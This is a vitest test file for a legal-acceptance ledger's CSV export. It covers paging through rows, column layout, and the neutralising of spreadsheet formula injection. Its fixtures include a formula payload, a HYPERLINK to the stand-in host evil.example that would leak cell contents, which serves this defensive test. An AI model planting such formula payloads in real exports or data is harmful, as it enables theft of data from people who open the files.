import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestDatabase, type TestDatabase } from '../../../tests/db'
import { TIMELINE, createTestContentSource } from '~/acceptances/__fixtures__/legal-dataset'
import { currentVersionsForAcceptance, type CurrentVersion } from '~/acceptances/current-versions.server'
import { recordAcceptances } from '~/acceptances/ledger.server'
import { ledgerPageOfVersion } from '~/acceptances/version-ledger.server'
import { guests, users } from '~/identity/schema'
import { type AcceptanceRow } from '~/acceptances/schema'
import { parseCsv } from './csv'
import { LEDGER_CSV_COLUMNS, findExportVersion, ledgerCsvFileName, ledgerCsvStream } from './ledger-export.server'

let database: TestDatabase
let content: ReturnType<typeof createTestContentSource>
let termsV1: CurrentVersion
let termsV2: CurrentVersion
const written: AcceptanceRow[] = []

const HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
const HOSTILE_WORDING = '@SUM(1,2), "quoted"\nsecond line'

async function newUser() {
  const id = `user_${randomUUID()}`
  await database.db.insert(users).values({ id })
  return id
}

beforeAll(async () => {
  database = await createTestDatabase()
  content = createTestContentSource()
  const deps = { db: database.db, source: content.source }
  termsV1 = (await currentVersionsForAcceptance(['terms'], 'ru', { now: TIMELINE.jan, deps }))[0]!
  termsV2 = (await currentVersionsForAcceptance(['terms'], 'ru', { now: TIMELINE.mar, deps }))[0]!

  // Five acceptances in one transaction share one recorded_at (now() is the
  // transaction's start): the export's cursor must still step through them.
  const userIds = await Promise.all(Array.from({ length: 5 }, newUser))
  await database.db.transaction(async (tx) => {
    for (const [n, userId] of userIds.entries()) {
      written.push(
        ...(await recordAcceptances(tx, {
          subject: { userId },
          event: 'register',
          documents: [termsV1],
          wordings: { terms: n === 0 ? HOSTILE_WORDING : 'I accept the terms, all of them' },
          ip: n === 0 ? '2001:db8::1' : '203.0.113.5',
          userAgent: n === 0 ? HOSTILE_AGENT : `+agent-${n}`,
          action: { type: 'account', id: userId },
        })),
      )
    }
  })
  const guestId = `guest_${randomUUID()}`
  await database.db.insert(guests).values({ id: guestId })
  written.push(
    ...(await database.db.transaction((tx) =>
      recordAcceptances(tx, {
        subject: { guestId },
        event: 'guest',
        documents: [termsV1],
        wordings: { terms: 'Accept as a guest' },
        ip: null,
        userAgent: null,
        action: { type: 'guest-session', id: guestId },
      }),
    )),
  )
  // A row of another version, which no export of v1 may include.
  await database.db.transaction((tx) =>
    recordAcceptances(tx, {
      subject: { consentId: 'c-1' },
      event: 'reaccept',
      documents: [termsV2],
      wordings: { terms: 'Accept v2' },
      ip: null,
      userAgent: 'other version',
      action: { type: 'account', id: 'x' },
    }),
  )
})

afterAll(async () => {
  content?.cleanup()
  await database?.close()
})

async function exportText(batchSize: number) {
  const version = (await findExportVersion(database.db, termsV1.documentVersionId))!
  const bytes = new Uint8Array(await new Response(ledgerCsvStream(database.db, version, { batchSize })).arrayBuffer())
  // Response.text() would drop the byte-order mark; keep it to check it is there.
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
}

describe('ledger CSV export', () => {
  it('finds the version and names the file after it', async () => {
    const version = await findExportVersion(database.db, termsV1.documentVersionId)
    expect(version).toEqual({ id: termsV1.documentVersionId, kind: 'terms', locale: 'ru', version: 1 })
    expect(ledgerCsvFileName(version!)).toBe('palitra-acceptances-terms-ru-v1.csv')
    expect(await findExportVersion(database.db, randomUUID())).toBeNull()
  })

  it('pages through rows with equal timestamps without skipping or repeating any', async () => {
    const seen: string[] = []
    let after: string | null = null
    for (;;) {
      const batch = await ledgerPageOfVersion(database.db, termsV1.documentVersionId, after, 2)
      seen.push(...batch.map((r) => r.id))
      if (batch.length < 2) break
      after = batch.at(-1)!.id
    }
    expect(seen).toHaveLength(6)
    expect(new Set(seen)).toEqual(new Set(written.map((r) => r.id)))
  })

  it('writes a header and every row of that version only, with the evidence fields', async () => {
    for (const batchSize of [2, 500]) {
      const text = await exportText(batchSize)
      expect(text.startsWith('\uFEFFrecord_id,subject_type,')).toBe(true)
      const [header, ...rows] = parseCsv(text)
      expect(header).toEqual([...LEDGER_CSV_COLUMNS])
      expect(rows).toHaveLength(6)
      expect(rows.every((r) => r.length === LEDGER_CSV_COLUMNS.length)).toBe(true)
      expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(written.map((r) => r.id)))
      expect(rows.some((r) => r.includes('other version'))).toBe(false)
    }

    const [, ...rows] = parseCsv(await exportText(500))
    const cell = (row: string[], column: (typeof LEDGER_CSV_COLUMNS)[number]) => row[LEDGER_CSV_COLUMNS.indexOf(column)]
    const first = written.find((r) => r.userAgent === HOSTILE_AGENT)!
    const row = rows.find((r) => r[0] === first.id)!
    expect(Object.fromEntries(LEDGER_CSV_COLUMNS.map((c) => [c, cell(row, c)]))).toEqual({
      record_id: first.id,
      subject_type: 'user',
      subject_id: first.userId,
      document_kind: 'terms',
      locale: 'ru',
      version: '1',
      document_version_id: termsV1.documentVersionId,
      content_sha256: termsV1.sha256,
      event: 'register',
      state: 'given',
      scope: '',
      // Neutralised, and otherwise exactly as recorded.
      wording: `'${HOSTILE_WORDING}`,
      recorded_at_utc: first.recordedAt.toISOString(),
      ip: '2001:db8::1',
      user_agent: `'${HOSTILE_AGENT}`,
      action_type: 'account',
      action_id: first.userId,
    })
    const guestRow = rows.find((r) => cell(r, 'subject_type') === 'guest')!
    expect([cell(guestRow, 'event'), cell(guestRow, 'ip'), cell(guestRow, 'user_agent')]).toEqual(['guest', '', ''])
    expect(rows.filter((r) => cell(r, 'user_agent')!.startsWith("'+agent-"))).toHaveLength(4)
  })

  it('quotes and neutralises in the raw bytes, not only after parsing', async () => {
    const text = await exportText(500)
    expect(text).toContain(`"'@SUM(1,2), ""quoted""\nsecond line"`)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`)
    expect(text).toContain('"I accept the terms, all of them"')
    // Every record ends in CRLF; the only bare LF is the one inside the quoted wording.
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replaceAll('\r\n', '').split('\n')).toHaveLength(2)
  })
})
